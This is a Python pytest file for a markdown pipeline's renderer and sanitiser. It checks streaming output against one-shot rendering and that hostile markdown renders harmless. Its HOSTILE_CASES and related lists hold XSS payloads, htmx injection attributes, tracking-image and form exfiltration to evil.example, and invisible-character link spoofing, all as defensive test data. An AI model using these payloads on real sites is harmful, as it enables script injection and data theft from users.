"""The markdown pipeline: what it renders, how safe that is, and the tricky texts that must stream to
the same HTML (the incremental renderer's own tests are in test_incremental.py)."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from markupsafe import Markup
from syrupy.assertion import SnapshotAssertion

from components import make_environment
from folyam.markdown import MarkdownPipeline
from tests.support.page import Page
from tests.support.page import stream as stream_into_page

PIPELINE = MarkdownPipeline(make_environment())


def stream(text: str, cuts: list[int]) -> Page:
    return stream_into_page(PIPELINE.renderer(), text, cuts)


def one_shot(text: str) -> str:
    return str(PIPELINE.render(text.replace("\r\n", "\n").replace("\r", "\n")))


TRICKY = {
    "unclosed_fence": "Intro\n\n```python\ndef f():\n    return 1\n",
    "fence_closed_then_text": "```js\nlet a = 1;\n```\nafter",
    "setext_heading": "Title line\n===\n\nSub\n---\n\ntext",
    "table_growing": "| a | b |\n|---|:-:|\n| 1 | 2 |\n| 3 | 4 |\n\nafter table",
    "nested_lists": "- a\n  - b\n    - c\n- d\n\n1. one\n2. two\n   - inner\n",
    "ordered_list_resumed": "1. one\n\n2. two\n\n   continued\n\n3. three\n\nText\n\n4. four",
    "loose_list": "- a\n- b\n\n- c\n\npara",
    "reference_after_use": "See [the docs][d] and [x].\n\nMore text.\n\n[d]: https://example.org\n[x]: /local",
    "reference_before_use": "[d]: https://example.org\n\nSee [the docs][d].",
    "blockquote_lazy": "> quoted\nlazy continuation\n\n> again",
    "hr_and_heading": "text\n\n***\n\n# H1\n## H2\ntext",
    "emphasis_across_lines": "some **bold\nstill bold** and *it\nalic*",
    "crlf_and_cr": "line one\r\nline two\rline three\r\n\r\n- item\r",
    "indented_code": "para\n\n    code block\n    more\n\nafter",
    "task_list": "- [ ] todo\n- [x] done\n  - [ ] nested\n- [y] not a task\n\n1. [X] first\n2. [ ]\n\n> - [ ] quoted",
    "hostile": "<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n[j](javascript:alert(1))\n\n"
    '![x](https://evil.example/p.png?leak=1)\n\n<div hx-get="/x" hx-trigger="load">d</div>',
}


@pytest.mark.parametrize("name", sorted(TRICKY))
def test_tricky_cases_stream_to_the_one_shot_render(name: str, snapshot: SnapshotAssertion) -> None:
    text = TRICKY[name]
    expected = one_shot(text)
    for size in (1, 2, 3, 7, 64):
        page = stream(text, list(range(size, len(text), size)))
        assert page.body == expected, size
        assert page.tail == ""
    assert expected == snapshot


HOSTILE_CASES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<div hx-get="/x" hx-trigger="load">x</div>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD4=)",
    "![pixel](https://evil.example/track.png?secret=1)",
    "![inline](data:image/png;base64,iVBORw0KGgo=)",
    '[t](https://x.org "<hx-partial hx-target=body hx-swap=innerHTML>pwn</hx-partial>")',
    "```<hx-partial\ncode\n```",
    "<style>body{display:none}</style>",
    "<svg onload=alert(1)>",
    "<iframe src=https://evil.example>",
    "<form action=https://evil.example><input name=q></form>",
    '<a href="https://x.org" style="position:fixed">x</a>',
]


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(html)
    return parser.elements


@pytest.mark.parametrize("text", HOSTILE_CASES)
def test_hostile_markdown_renders_harmless(text: str) -> None:
    html = str(PIPELINE.render(text))
    for tag, attributes in elements(html):
        assert tag in {"p", "a", "div", "span", "button", "pre", "code"}, html
        for name, value in attributes.items():
            assert name in {"href", "class", "rel", "type", "title", "role", "tabindex", "aria-label"}, html
            assert not (value or "").lower().startswith(("javascript:", "data:")), html
    assert "<hx-" not in html.lower()


@pytest.mark.parametrize(
    "text",
    ["[\u202egnp.exe](https://x.org)", "[a\u200bb\u2066c\u2069](https://x.org)", '[t](https://x.org "ti\u202etle")'],
)
def test_link_text_cannot_hide_behind_bidirectional_or_invisible_characters(text: str) -> None:
    html = str(PIPELINE.render(text))
    assert not any(ch in html for ch in "\u202e\u200b\u2066\u2069"), html
    assert "gnp.exe</a>" in html or "abc</a>" in html or 'title="title"' in html


def test_link_urls_show_such_characters_percent_encoded() -> None:
    html = str(PIPELINE.render("[x](https://x.org/\u202egnp.exe) <https://x.org/a\u200bb>"))
    assert "\u202e" not in html.split(">x<")[0] and 'href="https://x.org/%E2%80%AEgnp.exe"' in html
    assert 'href="https://x.org/a%E2%80%8Bb"' in html and ">https://x.org/ab</a>" in html


def test_links_carry_rel_and_images_show_their_url() -> None:
    html = PIPELINE.render("[a](https://a.example) ![b](https://b.example/p.png)")
    assert html == Markup(
        '<p><a href="https://a.example" rel="nofollow noopener noreferrer">a</a> '
        '<a href="https://b.example/p.png" class="image-link" rel="nofollow noopener noreferrer">'
        "image: b (https://b.example/p.png)</a></p>\n"
    )


def test_the_pygments_stylesheet_is_current() -> None:
    from folyam.pygments_css import PATH, stylesheet

    assert PATH.read_text() == stylesheet(), "run: python -m folyam.pygments_css"


def test_text_that_looks_like_an_attribute_keeps_its_tags() -> None:
    # Only attribute values have "<" and ">" escaped (for htmx's sake); this is text with a code span.
    assert PIPELINE.render('x="`y`"') == Markup('<p>x="<code>y</code>"</p>\n')


def test_task_list_items_are_disabled_checkboxes() -> None:
    html = PIPELINE.render("- [ ] to do\n- [x] done\n- [y] plain")
    assert html == Markup(
        '<ul>\n<li class="task-list-item"><input type="checkbox" disabled="disabled"> to do</li>\n'
        '<li class="task-list-item"><input type="checkbox" disabled="disabled" checked="checked"> done</li>\n'
        "<li>[y] plain</li>\n</ul>\n"
    )


@pytest.mark.parametrize(
    "html",
    [
        '<input type="text" value="x" name="q" autofocus onfocus="alert(1)">',
        '<input type="checkbox" formaction="https://evil.example" form="f" style="position:fixed">',
        '<input type="hidden" name="csrf_token" value="stolen">',
        '<input type="image" src="https://evil.example/p.png">',
        '<input type="submit" hx-post="/x" hx-trigger="load">',
        '<input type="checkbox" disabled="no" checked="maybe" id="x" class="task-list-item-checkbox">',
        "<input>",
    ],
)
def test_any_input_leaves_the_sanitiser_as_a_disabled_checkbox(html: str) -> None:
    assert PIPELINE.clean(html) == Markup('<input type="checkbox" disabled="disabled">')
